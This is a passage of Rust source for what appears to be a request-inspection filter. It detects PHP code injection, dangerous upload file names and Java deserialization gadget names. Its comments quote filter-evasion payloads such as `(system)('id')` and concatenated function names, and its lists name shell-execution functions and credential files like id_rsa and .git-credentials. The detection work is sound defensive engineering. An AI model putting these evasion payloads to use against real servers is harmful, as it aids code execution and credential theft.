        let sld = h.get(second.map_or(0, |s| s + 1)..last).unwrap_or("");
        let cut = if tld.len() == 2 && sld.len() <= 3 {
            dots.next()
        } else {
            second
        };
        cut.map_or(h, |c| h.get(c + 1..).unwrap_or(h))
    }
    // An IP literal is its own site.
    if a.parse::<std::net::IpAddr>().is_ok() || b.parse::<std::net::IpAddr>().is_ok() {
        return a == b;
    }
    site(a) == site(b)
}

const PHP_FUNCS: &[&str] = &[
    "system",
    "exec",
    "shell_exec",
    "passthru",
    "popen",
    "proc_open",
    "pcntl_exec",
    "eval",
    "assert",
    "create_function",
    "call_user_func",
    "call_user_func_array",
    "preg_replace",
    "base64_decode",
    "gzinflate",
    "gzuncompress",
    "str_rot13",
    "file_get_contents",
    "file_put_contents",
    "fopen",
    "fwrite",
    "fputs",
    "readfile",
    "include",
    "require",
    "include_once",
    "require_once",
    "phpinfo",
    "highlight_file",
    "show_source",
    "chr",
    "unserialize",
    "move_uploaded_file",
    "array_map",
    "usort",
    "ini_set",
    "putenv",
    "mail",
    "curl_exec",
    "fsockopen",
    "posix_getpwuid",
    "dl",
    "symlink",
    "chmod",
    "unlink",
    "copy",
];

const PHP_ONLY: &[&str] = &[
    "shell_exec",
    "passthru",
    "proc_open",
    "pcntl_exec",
    "create_function",
    "call_user_func",
    "call_user_func_array",
    "base64_decode",
    "gzinflate",
    "gzuncompress",
    "str_rot13",
    "file_get_contents",
    "file_put_contents",
    "phpinfo",
    "highlight_file",
    "show_source",
    "move_uploaded_file",
    "posix_getpwuid",
    "fsockopen",
    "curl_exec",
    "preg_replace",
    "gzdecode",
    "zlib_decode",
];

/// Skips blanks and PHP comments (`/* */`, `//` and `#` to the line end).
fn php_blank(b: &[u8], mut i: usize) -> usize {
    loop {
        match b.get(i) {
            Some(c) if c.is_ascii_whitespace() => i += 1,
            Some(b'/') if b.get(i + 1) == Some(&b'*') => {
                let end = b
                    .get(i + 2..)
                    .and_then(|r| r.windows(2).position(|w| w == b"*/"));
                match end {
                    Some(e) => i += e + 4,
                    None => return b.len(),
                }
            }
            Some(b'/') if b.get(i + 1) == Some(&b'/') => i = php_line_end(b, i),
            Some(b'#') => i = php_line_end(b, i),
            _ => return i,
        }
    }
}

fn php_line_end(b: &[u8], i: usize) -> usize {
    b.get(i..)
        .and_then(|r| r.iter().position(|c| *c == b'\n'))
        .map_or(b.len(), |e| i + e + 1)
}

/// The end of a bracketed group opened at `i` (`[`, `{`, `(`), at most 96 bytes on.
fn php_group_end(b: &[u8], i: usize) -> Option<usize> {
    let (open, close) = match b.get(i)? {
        b'[' => (b'[', b']'),
        b'{' => (b'{', b'}'),
        b'(' => (b'(', b')'),
        _ => return None,
    };
    let mut depth = 0usize;
    for (k, c) in b.get(i..)?.iter().enumerate().take(96) {
        if *c == open {
            depth += 1;
        } else if *c == close {
            depth -= 1;
            if depth == 0 {
                return Some(i + k + 1);
            }
        }
    }
    None
}

/// PHP variables used as code: a call through a variable (`$x(`,
/// `${'a'}(1)`, `$$b(2)`, `$_a[5]['d'] /*x*/ (17)`, `$o->$f()`) or a
/// variable variable (`${'name'}`, `$ {$a}`): read with a small lexer over
/// `$`, names, braces, subscripts, `->` and comments.
fn php_variable(lower: &str) -> Option<ClassFound> {
    let b = lower.as_bytes();
    for (at, _) in lower.match_indices('$').take(16) {
        let mut i = at + 1;
        while b.get(i) == Some(&b'$') {
            i += 1;
        }
        let blanks = php_blank(b, i);
        let spaced = blanks > i;
        i = blanks;
        match b.get(i) {
            Some(b'{') => {
                let inner = php_blank(b, i + 1);
                // `${'x'}`, `${$a}`, `$ {x}`: PHP's variable variables (a shell
                // or JS `${x}` has no blank and no quote or `$` inside).
                let end = php_group_end(b, i)?;
                if spaced || matches!(b.get(inner), Some(b'\'' | b'"' | b'$' | b'@')) {
                    if call_follows(b, end) {
                        return Some(("php", "php.variable_call", 0.8));
                    }
                    return Some(("php", "php.variable_variable", 0.7));
                }
                i = end;
            }
            Some(c) if c.is_ascii_alphabetic() || *c == b'_' => {
                while b
                    .get(i)
                    .is_some_and(|c| c.is_ascii_alphanumeric() || *c == b'_')
                {
                    i += 1;
                }
            }
            _ => continue,
        }
        if call_follows(b, i) {
            return Some(("php", "php.variable_call", 0.7));
        }
    }
    None
}

/// After a variable name at `i`: subscripts, `->` members, comments, then `(`
/// with an argument list that reads as code (`)`, a string, a variable, a number).
fn call_follows(b: &[u8], mut i: usize) -> bool {
    let mut steps = 0;
    loop {
        steps += 1;
        if steps > 8 {
            return false;
        }
        let j = php_blank(b, i);
        let blank = j > i;
        match b.get(j) {
            Some(b'[' | b'{') => match php_group_end(b, j) {
                Some(e) => i = e,
                None => return false,
            },
            Some(b'-') if b.get(j + 1) == Some(&b'>') => {
                i = j + 2;
                while b.get(i) == Some(&b'$') {
                    i += 1;
                }
                while b
                    .get(i)
                    .is_some_and(|c| c.is_ascii_alphanumeric() || *c == b'_')
                {
                    i += 1;
                }
            }
            Some(b'(') => {
                let a = php_blank(b, j + 1);
                let arg = b.get(a);
                let code_arg = matches!(arg, Some(b')' | b'\'' | b'"' | b'$'))
                    || arg.is_some_and(|c| c.is_ascii_digit())
                        && b.get(a..)
                            .and_then(|r| r.iter().position(|c| !c.is_ascii_digit()))
                            .is_some_and(|k| b.get(a + k) == Some(&b')'));
                return !blank || code_arg;
            }
            _ => return false,
        }
    }
}

/// Functions a PHP payload calls through a string or expression.
const PHP_DANGER: &[&str] = &[
    "system",
    "exec",
    "shellexec",
    "passthru",
    "popen",
    "procopen",
    "pcntlexec",
    "assert",
    "createfunction",
    "calluserfunc",
    "phpinfo",
    "fileputcontents",
    "filegetcontents",
];

/// A call whose callee is an expression, not a name: `(system)('id')`,
/// `"sys"."tem"(ls)`, `[system][0](ls)`, `(string)"\x73ystem"('id')`,
/// `define('x','sys'.'tem');(x)('id')`, naming a dangerous function once
/// the pieces are joined.
fn php_dynamic_call(lower: &str) -> Option<ClassFound> {
    let b = lower.as_bytes();
    if !lower.contains(['(', '[']) || lower.len() > 4096 {
        return None;
    }
    let join = |t: &str| -> String {
        let tb = t.as_bytes();
        let mut out = String::new();
        let mut k = 0;
        while k < tb.len() && out.len() < 256 {
            if tb[k] == b'\\' && tb.get(k + 1) == Some(&b'x') {
                let hex = t
                    .get(k + 2..k + 4)
                    .and_then(|h| u8::from_str_radix(h, 16).ok());
                if let Some(c) = hex.filter(|c| c.is_ascii_alphabetic()) {
                    out.push(c.to_ascii_lowercase() as char);
                    k += 4;
                    continue;
                }
            }
            if tb[k].is_ascii_lowercase() {
                out.push(tb[k] as char);
            }
            k += 1;
        }
        out
    };
    let danger = |j: &str| PHP_DANGER.iter().any(|d| j.contains(d));
    let concat = gate::has(lower, "'.'")
        || gate::has(lower, "' .")
        || gate::has(lower, "\".\"")
        || gate::has(lower, "\" .");
    let mut whole: Option<String> = None;
    for (at, _) in lower.match_indices('(').take(32) {
        // Walk back over the callee: groups, strings, `.` concatenation, comments.
        let mut k = at;
        let mut groups = 0;
        loop {
            let mut j = k;
            while j > 0 && b.get(j - 1).is_some_and(|c| c.is_ascii_whitespace()) {
                j -= 1;
            }
            if j >= 2 && b.get(j - 2..j) == Some(b"*/") {
                match lower.get(..j - 2).and_then(|h| h.rfind("/*")) {
                    Some(p) => {
                        k = p;
                        continue;
                    }
                    None => break,
                }
            }
            let Some(&c) = b.get(j.wrapping_sub(1)).filter(|_| j > 0) else {
                break;
            };
            let open = match c {
                b')' => b'(',
                b']' => b'[',
                b'}' => b'{',
                b'\'' | b'"' => c,
                b'.' if groups > 0 => {
                    k = j - 1;
                    continue;
                }
                _ => break,
            };
            let mut depth = 0usize;
            let mut p = j;
            let mut start = None;
            while p > 0 && j - p < 128 {
                p -= 1;
                let d = b[p];
                if c == open && p < j - 1 && d == open {
                    start = Some(p);
                    break;
                }
                if c != open {
                    if d == c {
                        depth += 1;
                    } else if d == open {
                        depth -= 1;
                        if depth == 0 {
                            start = Some(p);
                            break;
                        }
                    }
                }
            }
            match start {
                // At most 16 pieces of callee per call: bounded work on hostile input.
                Some(p) if groups < 16 => {
                    k = p;
                    groups += 1;
                }
                _ => break,
            }
        }
        if groups == 0 {
            continue;
        }
        let callee = lower.get(k..at).unwrap_or("");
        let named = join(callee);
        if named.is_empty() && !callee.contains(['\'', '"']) {
            continue;
        }
        if danger(&named)
            || (concat && named.len() <= 8 && danger(whole.get_or_insert_with(|| join(lower))))
        {
            return Some(("php", "php.dynamic_call", 0.8));
        }
    }
    None
}

/// php.ini directives (core), and extension sections whose dotted
/// directives (`opcache.jit=...`) are PHP's alone.
const PHP_INI: &[&str] = &[
    "engine",
    "extension",
    "extension_dir",
    "zend_extension",
    "precision",
    "smtp",
    "smtp_port",
    "sendmail_path",
    "sendmail_from",
    "memory_limit",
    "unserialize_max_depth",
    "allow_url_fopen",
    "include_path",
    "display_errors",
    "display_startup_errors",
    "error_log",
    "log_errors",
    "error_reporting",
    "max_execution_time",
    "max_input_time",
    "upload_tmp_dir",
    "post_max_size",
    "upload_max_filesize",
    "short_open_tag",
    "register_globals",
    "file_uploads",
    "enable_dl",
    "doc_root",
    "user_dir",
    "expose_php",
    "html_errors",
    "variables_order",
    "output_buffering",
    "default_charset",
    "serialize_precision",
    "realpath_cache_size",
    "zend.assertions",
];
const PHP_INI_SECTIONS: &[&str] = &[
    "opcache",
    "session",
    "mbstring",
    "pcre",
    "mysqli",
    "mysqlnd",
    "pdo_mysql",
    "xdebug",
    "apc",
    "phar",
    "assert",
    "mail",
    "soap",
    "curl",
    "openssl",
    "zend",
    "user_ini",
    "zlib",
    "sqlite3",
];

/// A value that is one php.ini setting, `directive = value`
/// (`memory_limit = 512M`, `opcache.jit_max_polymorphic_calls=50`):
/// what an attacker feeds to `ini_set`, `.user.ini` or `PHP_VALUE`.
fn ini_setting(lower: &str) -> Option<ClassFound> {
    let (name, value) = lower.trim().split_once('=')?;
    let (name, value) = (name.trim_end(), value.trim_start());
    if value.is_empty() || value.contains(['=', '&', ' ']) || name.contains(' ') {
        return None;
    }
    // Single-word directives (`engine`, `precision`) are ordinary settings
    // words: only with a switch or number as php.ini writes it (`engine=On`).
    let switch = matches!(value, "on" | "off" | "true" | "false" | "yes" | "no")
        || value.bytes().all(|c| c.is_ascii_digit());
    let known = PHP_INI.contains(&name) && (name.contains(['_', '.']) || switch)
        || name.split_once('.').is_some_and(|(sec, d)| {
            PHP_INI_SECTIONS.contains(&sec)
                && !d.is_empty()
                && d.bytes().all(|c| c.is_ascii_lowercase() || c == b'_')
        });
    known.then_some(("php", "php.config_directive", 0.65))
}

/// An uploaded file name the server would run or read as its own: a script
/// extension anywhere among the extensions once blanks and the trailing dots
/// Windows drops are gone (`photo. php`, `a.php5...`, `test.phar .png`), a
/// server config file, or a PHP session file name (`sess_<id>`, session fixation).
fn upload_name(lower: &str) -> Option<ClassFound> {
    let base = lower.trim().rsplit(['/', '\\']).next().unwrap_or("");
    let f: String = base
        .chars()
        .filter(|c| !c.is_whitespace())
        .take(256)
        .collect();
    let f = f.trim_end_matches(['.', ':']);
    let script = f.split('.').skip(1).any(|ext| {
        let stem = ext.trim_end_matches(|c: char| c.is_ascii_digit());
        matches!(
            stem,
            "php"
                | "phtml"
                | "phar"
                | "pht"
                | "phps"
                | "phpt"
                | "pgif"
                | "jsp"
                | "jspx"
                | "asp"
                | "aspx"
                | "cer"
                | "shtml"
                | "asa"
        )
    });
    if script {
        return Some(("php", "upload.script_file", 0.8));
    }
    if matches!(f, ".htaccess" | ".user.ini" | "web.config" | ".htpasswd") {
        return Some(("php", "upload.config_file", 0.8));
    }
    // Files that configure the app or hold a user's credentials, under the
    // name the server or a tool reads them by (`wp-config-php.bak` included).
    if f.starts_with("wp-config")
        || matches!(
            f,
            "config.yml"
                | "config.yaml"
                | "settings.py"
                | "local_settings.py"
                | "configuration.php"
                | ".env"
                | ".boto"
                | ".bashrc"
                | ".bash_profile"
                | ".profile"
                | ".zshrc"
                | ".npmrc"
                | ".pypirc"
                | ".netrc"
                | ".gitconfig"
                | ".git-credentials"
                | ".dockercfg"
                | "id_rsa"
                | "id_ed25519"
                | "authorized_keys"
                | "crontab"
        )
    {
        return Some(("rce", "upload.restricted_file", 0.7));
    }
    let id = f.strip_prefix("sess_").unwrap_or("");
    if id.len() >= 16
        && id
            .bytes()
            .all(|c| c.is_ascii_alphanumeric() || matches!(c, b'-' | b','))
    {
        return Some(("php", "upload.session_file", 0.75));
    }
    None
}

/// An upload name that is a single word (`sess_<id>`, `id_rsa`, `crontab`):
/// the judge skips words, so this is the one check that reads them, on
/// file-name points only (multipart file names, `X-Filename` and kin).
pub fn upload_word(s: &str, cx: &Ctx<'_>) -> Option<ClassFound> {
    if cx.kind == Kind::Filename || cx.kind == Kind::Header && filename_header(cx.name) {
        upload_name(&s.to_ascii_lowercase())
    } else {
        None
    }
}

/// funcster's serialized-function marker, `__js_function`, is a word: the
/// judge skips words, so this reads it on them (case-insensitive).
pub fn js_marker_word(s: &str) -> Option<ClassFound> {
    let b = s.as_bytes();
    (b.len() >= 13
        && memchr::memmem::find_iter(b, b"__").take(8).any(|at| {
            b.get(at..at + 13)
                .is_some_and(|w| w.eq_ignore_ascii_case(b"__js_function"))
        }))
    .then_some(("deser", "deser.node_function", 0.85))
}

/// Bytes one of which every return of [`php`] needs in the value (but an
/// upload name's): `<` (the `<?` open and short tags), `$` (superglobals,
/// variable calls and variable variables), `(` (every function call, whole
/// call and `(`-called expression), `[` (a `[system][0]` callee), `]` and `}`
/// (the `[php]`/`{php}` block tags), `=` (php.ini directives and settings,
/// which split at `=`). Lower-casing changes none of these bytes.
const PHP_GATE: [bool; 256] = {
    let mut t = [false; 256];
    let mut i = 0;
    let set = b"<$([]}=";
    while i < set.len() {
        t[set[i] as usize] = true;
        i += 1;
    }
    t
};

/// Whether [`php`] may return anything for `s` at `cx`: a file-name point
/// (an upload name is judged whatever its bytes), or a byte of [`PHP_GATE`].
fn php_may(s: &str, cx: &Ctx<'_>) -> bool {
    php_upload_point(cx) || s.bytes().any(|c| PHP_GATE[usize::from(c)])
}

/// Whether `cx` is a point whose value names an uploaded file.
fn php_upload_point(cx: &Ctx<'_>) -> bool {
    cx.kind == Kind::Filename || cx.kind == Kind::Header && filename_header(cx.name)
}

/// PHP code injection.
pub fn php(s: &str, cx: &Ctx<'_>) -> Option<ClassFound> {
    if !php_may(s, cx) {
        return None;
    }
    php_ungated(s, cx)
}

/// [`php`] without its byte gate (the tests hold the two together).
fn php_ungated(s: &str, cx: &Ctx<'_>) -> Option<ClassFound> {
    let lower = s.to_ascii_lowercase();
    if gate::has(&lower, "<?php")
        || gate::has(&lower, "<?=")
        || (lower.starts_with("<?") && !lower.starts_with("<?xml"))
    {
        return Some(("php", "php.open_tag", 0.9));
    }
    let lb = lower.as_bytes();
    if memchr::memchr(b'<', lb).is_some() && memchr::memmem::find(lb, b"<?").is_some() {
        if let Some(f) = php_short_tag(&lower) {
            return Some(f);
        }
    }
    if memchr::memchr2(b'}', b']', lb).is_some()
        && (gate::has(&lower, "php}") || gate::has(&lower, "php]"))
    {
        if let Some(f) = php_block_tag(&lower) {
            return Some(f);
        }
    }
    if php_upload_point(cx) {
        if let Some(f) = upload_name(&lower) {
            return Some(f);
        }
    }
    let b = lower.as_bytes();
    if memchr::memchr(b'$', b).is_some() {
        for sg in [
            "$_get",
            "$_post",
            "$_request",
            "$_cookie",
            "$_server",
            "$_files",
            "$_env",
            "$globals",
            "$_session",
        ] {
            if gate::has(&lower, sg) {
                return Some(("php", "php.superglobal", 0.8));
            }
        }
        if let Some(f) = php_variable(&lower) {
            return Some(f);
        }
    }
    if let Some(f) = php_dynamic_call(&lower) {
        return Some(f);
    }
    if memchr::memchr(b'(', b).is_none() {
        for d in [
            "allow_url_include",
            "auto_prepend_file",
            "auto_append_file",
            "disable_functions",
            "open_basedir",
            "safe_mode",
        ] {
            if gate::has(&lower, d) && lower.contains('=') {
                return Some(("php", "php.config_directive", 0.7));
            }
        }
        return ini_setting(&lower);
    }
    // name( with optional blanks/comments; argument a string, variable or call.
    let mut best: Option<ClassFound> = None;
    for (at, _) in lower.match_indices('(').take(32) {
        let head = lower.get(..at).unwrap_or("").trim_end();
        let head = head.strip_suffix("*/").map_or(head, |h| {
            h.rfind("/*")
                .map_or(h, |p| h.get(..p).unwrap_or(h))
                .trim_end()
        });
        let start = head
            .rfind(|c: char| !(c.is_ascii_alphanumeric() || c == '_'))
            .map_or(0, |p| p + 1);
        let name = head.get(start..).unwrap_or("");
        let before = head.get(..start).unwrap_or("");
        if name.is_empty() || before.ends_with(['.', '-', '>']) && !before.ends_with("->") {
            continue;
        }
        if !PHP_FUNCS.contains(&name) {
            // A PHP-only name glued to other letters (`FOOcall_user_func()`):
            // still that function to a filter that strips a prefix, and no word.
            if name.len() > 8
                && lower
                    .get(at + 1..)
                    .is_some_and(|a| a.trim_start().starts_with(')'))
                && PHP_ONLY
                    .iter()
                    .any(|f| f.len() >= 8 && name.len() > f.len() && name.ends_with(f))
                && best.is_none_or(|b| b.2 < 0.7)
            {
                best = Some(("php", "php.function_call", 0.7));
            }
            continue;
        }
        let arg = lower.get(at + 1..).unwrap_or("").trim_start();
        // A string, a variable, a nested call (`system(base64_decode(`) or nothing;
        // after a blank (`system (os)` in prose) only a string or a variable.
        let spaced = lower.get(..at).is_some_and(|h| h.ends_with(' '))
            && !lower.get(..at).unwrap_or("").trim_end().ends_with("*/");
        let nested = {
            let n = arg
                .bytes()
                .take_while(|c| c.is_ascii_alphanumeric() || *c == b'_')
                .count();
            n > 0 && arg.as_bytes().get(n) == Some(&b'(')
        };
        let arg_code =
            arg.starts_with(['\'', '"', '$', '`']) || !spaced && (nested || arg.starts_with(')'));
        let conf = if PHP_ONLY.contains(&name) {
            0.8
        } else if arg_code
            && (before.is_empty() || before.ends_with([';', '=', ' ', '(', '@', '.', '{']))
        {
            0.7
        } else {
            0.0
        };
        if conf > 0.0 && best.is_none_or(|b| conf > b.2) {
            best = Some(("php", "php.function_call", conf));
        }
    }
    best.or_else(|| whole_call(&lower))
}

/// `<?` that opens PHP code rather than an XML declaration: `<?xml :echo 1;`
/// (a short tag, then `xml` and code that no declaration has) or `<?` left
/// open at the very end of the value (a probe).
fn php_short_tag(lower: &str) -> Option<ClassFound> {
    let t = lower.trim_end();
    if t.len() > 2 && t.ends_with("<?") {
        return Some(("php", "php.open_tag", 0.7));
    }
    for (at, _) in lower.match_indices("<?xml").take(4) {
        let rest = lower.get(at + 5..).unwrap_or("");
        let body = rest.trim_start();
        // A declaration goes on with a blank and `version=`; a processing
        // instruction with `-` (`<?xml-stylesheet`); code with anything else.
        let next = body.bytes().next();
        let glued = body.len() == rest.len();
        if next.is_some_and(|c| {
            !c.is_ascii_alphanumeric() && c != b'?' && !(glued && matches!(c, b'-' | b'_' | b'.'))
        }) {
            return Some(("php", "php.open_tag", 0.8));
        }
    }
    None
}

/// Smarty's `{php}...{/php}` and the `[php]...[/php]` block tags around code:
/// a Smarty tag alone is enough; a BBCode one (forums use it to show PHP)
/// needs a statement inside (`;`, a call, a variable, `echo`).
fn php_block_tag(lower: &str) -> Option<ClassFound> {
    if lower.contains("{php}") || lower.contains("{/php}") {
        return Some(("php", "php.block_tag", 0.75));
    }
    let bb = ["[php]", "[/php]", "[\\php]"]
        .iter()
        .any(|t| lower.contains(t));
    let code =
        lower.contains([';', '(', '$']) || lower.contains("echo ") || lower.contains("print ");
    (bb && code).then_some(("php", "php.block_tag", 0.7))
}

/// A request header that names an uploaded file (`X-Filename`, `X.Filename`,
/// `X_Filename`, `X-File-Name`): upload handlers store under that name.
fn filename_header(name: &str) -> bool {
    let h = name.get(7..).unwrap_or("");
    name.get(..7)
        .is_some_and(|p| p.eq_ignore_ascii_case("header."))
        && h.len() <= 12
        && {
            let mut k = [0u8; 12];
            let mut n = 0;
            for c in h.bytes().filter(u8::is_ascii_alphanumeric) {
                if let Some(slot) = k.get_mut(n) {
                    *slot = c.to_ascii_lowercase();
                    n += 1;
                }
            }
            k.get(..n) == Some(b"xfilename".as_slice())
        }
}

/// PHP extension prefixes: a `prefix_name(` call is PHP's standard library.
const PHP_PREFIXES: &[&str] = &[
    "array_",
    "str_",
    "preg_",
    "mb_",
    "pg_",
    "ldap_",
    "odbc_",
    "sodium_",
    "tidy_",
    "zend_",
    "posix_",
    "pcntl_",
    "curl_",
    "zlib_",
    "file_",
    "get_defined_",
    "date_",
    "ini_",
    "proc_",
    "stream_",
    "socket_",
    "openssl_",
    "mysqli_",
    "sqlite_",
    "hash_",
    "call_user_",
    "gz",
    "bz",
    "php",
];
/// Other PHP builtins payloads probe with (names no prose or other language shares).
const PHP_BUILTINS: &[&str] = &[
    "strrev",
    "print_r",
    "var_dump",
    "var_export",
    "gethostbyname",
    "fsockopen",
    "pfsockopen",
    "checkdate",
    "symlink",
    "serialize",
    "unserialize",
    "crypt",
    "fopen",
    "unpack",
    "intval",
    "printf",
    "strip_tags",
    "filegroup",
    "chr",
    "chroot",
    "substr",
    "assert_options",
    "readfile",
    "highlight_file",
    "show_source",
    "passthru",
    "shell_exec",
    "popen",
    "proc_open",
    "assert",
    "system",
    "exec",
    // PHP's type and file predicates (`is_prime(7)` stays a user's own name).
    "is_array",
    "is_callable",
    "is_numeric",
    "is_object",
    "is_resource",
    "is_scalar",
    "is_readable",
    "is_writable",
    "is_writeable",
    "is_executable",
    "is_uploaded_file",
];

/// A value that is one PHP call and nothing else: `name(...)`, `name(`,
/// `name/*x*/()`, `name\t()` naming a PHP builtin (an extension prefix such as
/// `posix_`, `sodium_`, `pg_`, or a builtin no other language spells that way).
fn whole_call(lower: &str) -> Option<ClassFound> {
    let t = lower.trim().trim_end_matches(';').trim_end();
    let b = t.as_bytes();
    let n = b
        .iter()
        .take_while(|c| c.is_ascii_alphanumeric() || **c == b'_')
        .count();
    if !(3..=64).contains(&n) || !b.first().is_some_and(|c| c.is_ascii_alphabetic()) {
        return None;
    }
    let name = t.get(..n)?;
    let j = php_blank(b, n);
    // A plain blank before `(` reads as prose (`fopen (the file)`) unless the
    // name is no word (`array_diff (`); a tab, newline or comment never does.
    // Two blanks or more are no typing habit either (`exec  (blah)`).
    let gap = t.get(n..j).unwrap_or("");
    // `Shell_exec=(bla)`: an assignment spelling of a PHP-only function name
    // (never an English word: `encode=(utf-8)` is a setting).
    let (j, gap) = match b.get(j) {
        Some(b'=') if name.contains('_') && PHP_ONLY.contains(&name) => {
            let k = php_blank(b, j + 1);
            (k, "=")
        }
        _ => (j, gap),
    };
    if b.get(j) != Some(&b'(') || gap == " " && !name.contains('_') {
        return None;
    }
    // `file` is a word: only with a code-like gap (`FILE\r\n()`).
    let code_gap = !gap.is_empty() && gap != " " && !gap.bytes().all(|c| c == b' ');
    let rest = t.get(j + 1..).unwrap_or("");
    // Closed at the very end, or left open (a probe): one call, not a sentence.
    let shape = match rest.find(')') {
        Some(e) => {
            e + 1 == rest.len()
                || rest
                    .get(e + 1..)
                    .is_some_and(|r| r.starts_with('[') || r.starts_with('.'))
        }
        None => !rest.contains(' ') || rest.len() < 16,
    };
    let known = PHP_BUILTINS.contains(&name)
        || name == "file" && code_gap
        || PHP_PREFIXES
            .iter()
            .any(|p| name.len() > p.len() + 1 && name.starts_with(p));
    (shape && known).then_some(("php", "php.function_call", 0.6))
}

/// Gadget-chain class names (commons-collections, ...), lower case.
const JAVA_GADGETS: &[&str] = &[
    "invokertransformer",
    "chainedtransformer",
    "instantiatetransformer",
    "instantiatefactory",
    "constanttransformer",
    "clonetransformer",
    "prototypeclonefactory",
    "prototypeserializationfactory",
    "whileclosure",
    "forclosure",
    "templatesimpl",
    "annotationinvocationhandler",
    "badattributevalueexpexception",
    "lazymap",
    "transformedmap",
    "xmldecoder",
    "processbuilder",
    "processimpl",
    "unixprocess",
    "getruntime",
    "runtime.exec",
    "jdbcrowsetimpl",
];

/// Packages under `java.`/`javax.` whose classes reach files, processes,
/// the network, reflection or interpreters.
const JAVA_PACKAGES: &[&str] = &[
    "lang",
    "io",
    "net",
    "nio",
    "beans",
    "rmi",
    "script",
    "naming",
    "management",
    "security",
    "util",
];

/// Other packages attackers name in OGNL, SpEL and gadget payloads.
const JAVA_OTHER: &[&str] = &[
    "com.opensymphony.xwork2",
    "org.omg.corba",
    "org.apache.commons.collections",
    "org.apache.commons.beanutils",
    "org.apache.xalan",
    "org.apache.struts2",
    "org.codehaus.groovy",
    "org.springframework.context",
    "org.springframework.beans",
    "com.sun.org.apache",
    "com.sun.rowset",
    "com.sun.jndi",
    "sun.misc",
    "sun.reflect",
    "bsh.interpreter",
    "groovy.lang",
    "jdk.jshell",
    "ognl.ognlcontext",
];

/// Words that make a dotted name about a process or a gadget (`runtime.forclosure`).
const JAVA_EXEC_WORDS: &[&str] = &["runtime", "processbuilder", "java"];
const JAVA_EXEC_TAILS: &[&str] = &[
    "getproperty",
    "filewriter",
    "exec",
    "start",
    "evil",
    "getruntime",
    "processbuilder",
    "runtime",
];

/// Lower-case dotted names (`java.lang.Runtime`) in `lower`, at most 64.
fn dotted_names(lower: &str) -> impl Iterator<Item = &str> {
    lower
        .split(|c: char| !(c.is_ascii_alphanumeric() || c == '_' || c == '$' || c == '.'))
        .filter(|t| t.len() >= 6 && t.contains('.'))
        .map(|t| t.trim_matches('.'))
        .take(64)
}

/// Judges one dotted name as Java.
fn java_name(t: &str, whole: bool) -> Option<ClassFound> {
    let mut segs = t.split('.');
    let first = segs.next().unwrap_or("");
    let second = segs.next().unwrap_or("");
    if matches!(first, "java" | "javax" | "jdk") {
        if JAVA_PACKAGES.contains(&second)
            && segs.next().is_some_and(|c| !c.is_empty())
            && !t.ends_with("exception")
            && !t.ends_with("error")
        {
            return Some(("java", "java.class_name", if whole { 0.8 } else { 0.7 }));
        }
        // `java.Runtime`, `java.evil.processbuilder`.
        if t.split('.').skip(1).any(|s| JAVA_EXEC_TAILS.contains(&s)) {
            return Some(("java", "java.class_name", 0.7));
        }
    }
    if JAVA_OTHER
        .iter()
        .any(|p| t.starts_with(p) && t.as_bytes().get(p.len()).is_none_or(|c| *c == b'.'))
    {
        return Some(("java", "java.class_name", 0.8));
    }
    // `runtime.forclosure`, `processbuilder.x.whileclosure`.
    let mut segs = t.split('.');
    if segs.next().is_some_and(|f| JAVA_EXEC_WORDS.contains(&f))
        && segs.any(|s| JAVA_GADGETS.contains(&s) || JAVA_EXEC_TAILS.contains(&s))
    {
        return Some(("java", "java.gadget", 0.8));
    }
    None
}

/// The 6-bit value of a base64 character (either alphabet).
fn b64_value(c: u8) -> Option<u8> {
    match c {
        b'A'..=b'Z' => Some(c - b'A'),
        b'a'..=b'z' => Some(c - b'a' + 26),
        b'0'..=b'9' => Some(c - b'0' + 52),
        b'+' | b'-' => Some(62),
        b'/' | b'_' => Some(63),
        _ => None,
    }
}

/// The values of `t`'s leading base64 characters (at most 4096).
fn b64_values(t: &[u8]) -> impl Iterator<Item = u8> + '_ {
    t.iter().take(4096).map_while(|&c| b64_value(c))
}

/// The 6-bit values of `t`'s leading base64 characters (either alphabet, at
/// most 4096), into `out`: [`b64_pack`] then decodes any alignment.
fn b64_sextets(t: &[u8], out: &mut Vec<u8>) {
    out.clear();
    out.extend(b64_values(t));
}

/// Base64 values decoded as if they started `skip` characters into a
/// base64 stream (the 0-2 leading bytes are then junk), appended to `out`.
fn b64_pack(six: impl IntoIterator<Item = u8>, skip: usize, out: &mut Vec<u8>) {
    let (mut acc, mut bits) = (0u32, skip as u32 * 6);
    for v in six {
        acc = (acc << 6 | u32::from(v)) & 0xff_ffff;
        bits += 6;
        if bits >= 8 {
            bits -= 8;
            out.push((acc >> bits) as u8);
        }
    }
}

/// Lenient base64 decoding of `t` as if it started `skip` characters into
/// a base64 stream (the 0-2 leading bytes are then junk); into `out`.
fn b64_shifted(t: &[u8], skip: usize, out: &mut Vec<u8>) {
    out.clear();
    b64_pack(b64_values(t), skip, out);
}

/// The gadget names [`java_base64`] looks for in decoded base64: the long
/// ones and `runtime`, less their first and last character (an alignment
/// may cut them), matched case-insensitively in one pass.
static B64_GADGETS: LazyLock<Option<AhoCorasick>> = LazyLock::new(|| {
    let inner: Vec<&str> = JAVA_GADGETS
        .iter()
        .filter(|g| g.len() >= 10)
        .chain(&["runtime"])
        .map(|g| g.get(1..g.len() - 1).unwrap_or(g))
        .collect();
    AhoCorasick::builder()
        .ascii_case_insensitive(true)
        .build(inner)
        .ok()
});

/// The fixed strings [`java`] looks for besides gadgets and dotted names:
/// a value with none of them skips those checks (ASCII case folded).
static JAVA_MARKERS: LazyLock<Option<AhoCorasick>> = LazyLock::new(|| {
    AhoCorasick::builder()
        .ascii_case_insensitive(true)
        .build(JAVA_MARKER_NEEDLES)
        .ok()
});

/// The needles of [`JAVA_MARKERS`].
const JAVA_MARKER_NEEDLES: &[&str] = &[
    "classloader",
    "#_memberaccess",
    "@ognlcontext",
    "#context[",
    "ognl.",
    "(java.",
    ".getclass()",
    ".forname(",
    "getruntime()",
];

/// The needles of [`JAVA_MARKERS`] and [`GADGETS`] in one automaton (ASCII
/// case folded): a value it finds none in matches neither.
static JAVA_ANY: LazyLock<Option<AhoCorasick>> = LazyLock::new(|| {
    AhoCorasick::builder()
        .ascii_case_insensitive(true)
        .build(JAVA_MARKER_NEEDLES.iter().chain(JAVA_GADGETS))
        .ok()
});

/// [`JAVA_GADGETS`] in one automaton, ASCII case folded (the names are
/// lower case, so this is a search of the lower-cased value).
static GADGETS: LazyLock<Option<AhoCorasick>> = LazyLock::new(|| {
    AhoCorasick::builder()
        .ascii_case_insensitive(true)
        .build(JAVA_GADGETS)
        .ok()
});

/// First bytes (either case) of every dotted name [`java_name`] can judge:
